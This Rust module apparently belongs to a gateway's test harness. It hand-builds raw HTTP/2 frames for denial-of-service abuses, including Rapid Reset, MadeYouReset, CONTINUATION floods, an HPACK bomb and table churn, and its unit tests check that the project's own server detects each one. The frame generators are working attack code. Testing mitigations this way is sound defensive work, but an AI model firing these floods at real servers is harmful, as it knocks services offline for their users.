//! What HTTP/2 clients must not do, as raw frames: written by hand, so that nothing that the gateway runs on has a say in it.
//!
//! Sans-IO. Called by `attacker`: each connection has one [`Abuse`], which says what goes first and what goes at each act. Acts
//! are large, so that the attacker's own costs are small against what it asks for.

use super::scenario::Kind;
use crate::material::HOST;

/// RFC 9113 §3.4.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Requests of an act that makes requests.
const REQUESTS: u32 = 32;
/// Frames of an act that sends small frames.
const FRAMES: usize = 128;
/// Bytes that an upload announces.
const UPLOAD_BYTES: usize = 1 << 20;
/// Fields of a head that fill a dynamic table of 4 KiB, and more.
const CHURN_FIELDS: u64 = 45;
/// Streams that wait for a window that never opens.
const STALLED_STREAMS: u32 = 64;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const CANCEL: u32 = 8;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// What one connection does.
#[derive(Clone, Copy, Debug)]
pub struct Abuse {
    kind: Kind,
    /// The stream that is opened next.
    stream: u32,
    /// The stream of the upload, and what is left of it.
    upload: (u32, usize),
    acts: u64,
}

impl Abuse {
    /// Nothing was sent yet.
    pub fn new(kind: Kind) -> Self {
        Self { kind, stream: 1, upload: (0, 0), acts: 0 }
    }

    /// What goes first.
    pub fn opening(&mut self) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        match self.kind {
            // Answers stay where they are: neither streams nor memory of the gateway come free.
            Kind::H2ZeroWindow => {
                settings(&mut out, &[(INITIAL_WINDOW_SIZE, 0)]);
                for _ in 0..STALLED_STREAMS {
                    let stream = self.next();
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &get("/public/files/1m", &[]));
                }
            }
            Kind::H2ContinuationFlood => {
                settings(&mut out, &[]);
                frame(&mut out, HEADERS, END_STREAM, 1, &get("/public/items/1", &[]));
            }
            _ => settings(&mut out, &[]),
        }
        out
    }

    /// What goes at an act; `number` is of all acts.
    pub fn act(&mut self, number: u64) -> Vec<u8> {
        let mut out = Vec::new();
        self.acts += 1;
        match self.kind {
            // CVE-2023-44487.
            Kind::H2RapidReset => {
                for _ in 0..REQUESTS {
                    let stream = self.next();
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &get("/public/items/1", &[]));
                    frame(&mut out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                }
            }
            // CVE-2025-8671: the gateway is made to reset, so that resets of the client are none.
            Kind::H2MadeYouReset => {
                for index in 0..REQUESTS {
                    let stream = self.next();
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &get("/public/items/1", &[]));
                    match (number + u64::from(index)) % 4 {
                        0 => frame(&mut out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
                        1 => frame(&mut out, WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes()),
                        // Behind the end of its own request.
                        2 => frame(&mut out, DATA, 0, stream, b"late"),
                        _ => frame(&mut out, PRIORITY, 0, stream, &[0; 4]),
                    }
                }
            }
            // CVE-2024-27983 and its kin: a field block that never ends, in frames of nothing and of something.
            Kind::H2ContinuationFlood => {
                let padding = [0x00, 0x01, b'x', 0x01, b'y'].repeat(200);
                for index in 0..FRAMES {
                    let payload = if index % 8 == 7 { &padding[..] } else { b"" };
                    frame(&mut out, CONTINUATION, 0, 1, payload);
                }
            }
            // Every second one changes the windows of all streams.
            Kind::H2SettingsFlood => {
                for index in 0..FRAMES {
                    let window = if index % 4 == 1 { 65_535 } else { 1_048_576 };
                    let said = [(INITIAL_WINDOW_SIZE, window)];
                    settings(&mut out, if index % 2 == 1 { &said } else { &[] });
                }
            }
            Kind::H2PingFlood => {
                for index in 0..FRAMES as u64 {
                    frame(&mut out, PING, 0, 0, &(number << 8 | index).to_be_bytes());
                }
            }
            // Of streams that were never opened: a tree of them is what some build.
            Kind::H2PriorityFlood => {
                for index in 0..FRAMES as u32 {
                    let [a, b, c, d] = (index * 2 + 1).to_be_bytes();
                    frame(&mut out, PRIORITY, 0, index * 2 + 3, &[a, b, c, d, index as u8]);
                }
            }
            Kind::H2WindowUpdateFlood => {
                for _ in 0..FRAMES {
                    frame(&mut out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes());
                }
            }
            Kind::H2EmptyData | Kind::H2TinyData => {
                let bytes: &[u8] = if self.kind == Kind::H2TinyData { b"t" } else { b"" };
                for _ in 0..FRAMES {
                    self.begin_upload(&mut out);
                    self.upload.1 -= bytes.len();
                    let flags = if self.upload.1 == 0 { END_STREAM } else { 0 };
                    frame(&mut out, DATA, flags, self.upload.0, bytes);
                }
            }
            // CVE-2016-6581: one long entry, named as often as a frame has bytes.
            Kind::H2HpackBomb => {
                let stream = self.next();
                let mut block = get("/public/items/1", &[]);
                if self.acts == 1 {
                    insert(&mut block, b"bomb", &[b'b'; 3_900]);
                }
                block.resize(16_384, 0x80 | 62);
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            }
            // New entries drive out all others, and the table is made nothing and all again.
            Kind::H2TableChurn => {
                for index in 0..4u64 {
                    let stream = self.next();
                    // RFC 7541 §6.3: to 0, and to 4,096.
                    let mut block = vec![0x20, 0x3f, 0xe1, 0x1f];
                    block.extend(get("/public/items/1", &[]));
                    for field in 0..CHURN_FIELDS {
                        insert(&mut block, b"x-churn", &unique(number << 16 | index << 8 | field));
                    }
                    frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
                }
            }
            // As large as blocks may be: some gateways keep all of it before they look.
            Kind::H2HeaderLists => {
                let stream = self.next();
                let value = [b'v'; 1_000];
                let names: Vec<String> = (0..60).map(|field| format!("x-list-{field}")).collect();
                let fields: Vec<(&str, &[u8])> =
                    names.iter().map(|name| (name.as_str(), &value[..])).collect();
                let block = get("/public/items/1", &fields);
                let mut parts = block.chunks(16_384).peekable();
                let mut kind = HEADERS;
                while let Some(part) = parts.next() {
                    let end = if parts.peek().is_none() { END_HEADERS } else { 0 };
                    let flags = if kind == HEADERS { end | END_STREAM } else { end };
                    frame(&mut out, kind, flags, stream, part);
                    kind = CONTINUATION;
                }
            }
            // A byte more for one of the streams that wait.
            Kind::H2ZeroWindow => {
                let stream = (number % u64::from(STALLED_STREAMS)) as u32 * 2 + 1;
                frame(&mut out, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
            }
            Kind::H2WindowOverflow => {
                let stream = self.next();
                frame(&mut out, HEADERS, END_HEADERS | END_STREAM, stream, &get("/public/files/1m", &[]));
                let of = if number.is_multiple_of(2) { 0 } else { stream };
                frame(&mut out, WINDOW_UPDATE, 0, of, &0x7fff_ffffu32.to_be_bytes());
                if number % 3 == 2 {
                    // RFC 9113 §6.9.2: a setting makes a window too large as well.
                    settings(&mut out, &[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]);
                }
            }
            Kind::H2StreamIds => self.wrong_stream(number, &mut out),
            _ => {}
        }
        out
    }

    /// A number that no stream may have now, another one each time.
    fn wrong_stream(&mut self, number: u64, out: &mut Vec<u8>) {
        let block = get("/public/items/1", &[]);
        let whole = END_HEADERS | END_STREAM;
        let stream = self.next();
        match number % 8 {
            // Of a server.
            0 => frame(out, HEADERS, whole, 2, &block),
            // Of the connection.
            1 => frame(out, HEADERS, whole, 0, &block),
            // Backwards.
            2 => {
                frame(out, HEADERS, whole, stream + 100, &block);
                frame(out, HEADERS, whole, stream, &block);
            }
            // The last one there is, and one more.
            3 => {
                frame(out, HEADERS, whole, 0x7fff_ffff, &block);
                frame(out, HEADERS, whole, 1, &block);
            }
            // Of a stream that was never opened.
            4 => frame(out, DATA, 0, stream, b"nobody"),
            5 => frame(out, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes()),
            6 => frame(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes()),
            // The same one again.
            _ => {
                frame(out, HEADERS, whole, stream, &block);
                frame(out, HEADERS, whole, stream, &block);
            }
        }
    }

    fn begin_upload(&mut self, out: &mut Vec<u8>) {
        if self.upload.1 > 0 {
            return;
        }
        let stream = self.next();
        let length = UPLOAD_BYTES.to_string();
        let fields: [(&str, &[u8]); 2] =
            [("content-type", b"text/plain"), ("content-length", length.as_bytes())];
        let block = head(0x83, "/public/uploads", &fields);
        frame(out, HEADERS, END_HEADERS, stream, &block);
        self.upload = (stream, UPLOAD_BYTES);
    }

    fn next(&mut self) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        stream
    }
}

/// RFC 9113 §4.1.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&[a, b, c, kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

fn settings(out: &mut Vec<u8>, said: &[(u16, u32)]) {
    let mut payload = Vec::new();
    for (name, value) in said {
        payload.extend_from_slice(&name.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    frame(out, SETTINGS, 0, 0, &payload);
}

fn get(path: &str, fields: &[(&str, &[u8])]) -> Vec<u8> {
    head(0x82, path, fields)
}

/// A head whose method has this index (RFC 7541, appendix A); nothing of it goes into the table.
fn head(method: u8, path: &str, fields: &[(&str, &[u8])]) -> Vec<u8> {
    let mut block = vec![method, 0x87, 0x04];
    string(&mut block, path.as_bytes());
    block.push(0x01);
    string(&mut block, HOST.as_bytes());
    for (name, value) in fields {
        block.push(0x00);
        string(&mut block, name.as_bytes());
        string(&mut block, value);
    }
    block
}

/// A field that goes into the table (RFC 7541 §6.2.1).
fn insert(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    block.push(0x40);
    string(block, name);
    string(block, value);
}

/// A value that no other number has.
fn unique(number: u64) -> [u8; 60] {
    let mut value = [b'0'; 60];
    for (place, digit) in value.iter_mut().take(16).enumerate() {
        *digit = b'a' + (number >> (4 * place)) as u8 % 16;
    }
    value
}

/// RFC 7541 §5.2, as it is.
fn string(block: &mut Vec<u8>, bytes: &[u8]) {
    let mut length = bytes.len();
    if length < 127 {
        block.push(length as u8);
    } else {
        block.push(127);
        length -= 127;
        while length >= 128 {
            block.push(length as u8 | 0x80);
            length >>= 7;
        }
        block.push(length as u8);
    }
    block.extend_from_slice(bytes);
}

#[cfg(test)]
mod tests {
    use super::*;
    use ringwall::h2::connection::{Decoded, Section, Undecodable};
    use ringwall::h2::hpack::{Decoder, Error};
    use ringwall::h2::{Connection, Event, FieldBlocks, Role, Settings, StreamId};

    /// Those of a server that takes every head of up to 32 KiB.
    struct Blocks(Decoder, Vec<u8>);

    impl FieldBlocks for Blocks {
        fn decode(&mut self, _: Section, _: StreamId, _: bool, block: &[u8]) -> Result<Decoded, Undecodable> {
            const KEPT: u64 = 32 * 1024;
            let before = (self.0.inserted_bytes(), self.0.listed_bytes());
            self.1.clear();
            match self.0.decode(block, KEPT as usize, &mut self.1, |_, _| true) {
                Err(Error::Churn) => return Err(Undecodable::Churn),
                Err(_) => return Err(Undecodable::Malformed),
                Ok(_) => {}
            }
            Ok(Decoded {
                inserted_bytes: (self.0.inserted_bytes() - before.0) as u32,
                excess_bytes: (self.0.listed_bytes() - before.1).saturating_sub(KEPT) as u32,
                ..Decoded::default()
            })
        }

        fn encoder_table_bytes(&mut self, _: u32) {}
    }

    /// Goes on with an abuse until a server of ours ends the connection: why, and after how many acts.
    fn ended(kind: Kind, number: u64, acts_max: u64) -> Option<(&'static str, u64)> {
        let (mut blocks, mut out) = (Blocks(Decoder::new(), Vec::new()), Vec::new());
        let mut server = Connection::new(Role::Server, &Settings::DEFAULT, 0, &mut out);
        let mut abuse = Abuse::new(kind);
        for act in 0..=acts_max {
            let bytes = if act == 0 { abuse.opening() } else { abuse.act(number + act - 1) };
            let mut at = 0;
            loop {
                match server.receive(&bytes[at..], act, &mut blocks, &mut out) {
                    Err(gone) => return Some((gone.reason.token, act)),
                    Ok((taken, Event::Idle)) => {
                        assert_eq!(at + taken, bytes.len());
                        break;
                    }
                    Ok((taken, event)) => {
                        at += taken;
                        if let Event::Data { stream, bytes, .. } = event {
                            server.consumed(stream, bytes.len(), &mut out);
                        }
                    }
                }
            }
            out.clear();
        }
        None
    }

    #[test]
    fn each_abuse_is_the_one_that_it_says() {
        for (kind, token) in [
            (Kind::H2RapidReset, "h2_reset_flood"),
            (Kind::H2MadeYouReset, "h2_fault_flood"),
            (Kind::H2SettingsFlood, "h2_settings_flood"),
            (Kind::H2PingFlood, "h2_ping_flood"),
            (Kind::H2PriorityFlood, "h2_priority_flood"),
            (Kind::H2WindowUpdateFlood, "h2_window_update_flood"),
            (Kind::H2EmptyData, "h2_empty_flood"),
            (Kind::H2TinyData, "h2_tiny_flood"),
            (Kind::H2ContinuationFlood, "h2_block_frames"),
            (Kind::H2TableChurn, "h2_table_churn"),
        ] {
            let (ended, acts) = ended(kind, 0, 10_000).unwrap_or(("nothing", 0));
            assert_eq!(ended, token, "{kind:?}, after {acts} acts");
        }
        let (bombed, _) = ended(Kind::H2HpackBomb, 0, 100).unwrap();
        assert!(["h2_field_bomb", "h2_table_churn"].contains(&bombed), "{bombed}");
    }

    #[test]
    fn what_may_be_sent_is_borne_and_what_may_not_ends_at_once() {
        // Large heads are refused one by one, closed windows cost nothing but time: neither is for the codec to end at once.
        assert_eq!(ended(Kind::H2HeaderLists, 0, 10), None);
        assert_eq!(ended(Kind::H2ZeroWindow, 0, 100), None);
        for number in 0..8 {
            let ended = ended(Kind::H2StreamIds, number, 1);
            assert!(ended.is_some() || number == 7, "{number}: {ended:?}");
        }
        assert_eq!(ended(Kind::H2WindowOverflow, 0, 1), Some(("h2_window_overflow", 1)));
    }
}
